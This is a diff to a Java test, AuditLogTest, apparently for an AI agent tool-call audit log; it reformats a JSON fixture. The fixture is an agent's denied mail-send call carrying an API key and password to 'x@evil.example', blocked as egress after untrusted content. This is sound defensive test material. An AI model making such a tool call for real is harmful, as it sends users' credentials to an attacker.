@@ -38,7 +38,8 @@ class AuditLogTest {
           .time(Entries.T0).requestId("r-9").session("s-1").agent("support-bot")
           .actorChain(List.of("ops-bot", "planner"))
           .protocolVersion("2025-11-25").method("tools/call").tool("acme.mail_send")
-          .arguments(json("{\"to\":\"x@evil.example\",\"api_key\":\"sk-live-123\",\"auth\":{\"password\":\"hunter2\"}}"))
+          .arguments(json("""
+              {"to": "x@evil.example", "api_key": "sk-live-123", "auth": {"password": "hunter2"}}"""))
           .decision(Verdict.DENY, "no-egress-after-untrusted-private", "private data and untrusted content seen")
           .policyVersion("sha256:abc")
           .extra((ObjectNode) json("{\"approval_id\":\"ap-1\",\"cost_usd\":0.01}"))
